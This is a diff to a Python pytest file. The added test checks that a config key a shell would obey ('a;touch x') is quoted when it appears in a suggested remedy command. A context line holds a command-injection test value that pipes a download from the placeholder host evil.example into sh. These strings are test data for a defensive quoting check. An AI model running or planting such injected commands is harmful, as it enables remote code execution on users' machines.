@@ -72,6 +72,12 @@ def test_a_key_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
     assert shlex.split(caught.value.remedy)[1:] == ["--set", "a; curl https://evil.example | sh #=VALUE"]
 
 
+def test_a_key_that_a_shell_would_obey_is_quoted(tmp_path: Path) -> None:
+    run = recorded(tmp_path / "run", replace(CALL, config={"a;touch x": "<redacted>"}))
+    with pytest.raises(UsageError, match="remedy: add --set 'a;touch x'=VALUE"):
+        run.spec_to(3)
+
+
 def test_other_directories_are_refused(tmp_path: Path) -> None:
     with pytest.raises(TraceError, match="no trace"):
         read_recorded_run(tmp_path)
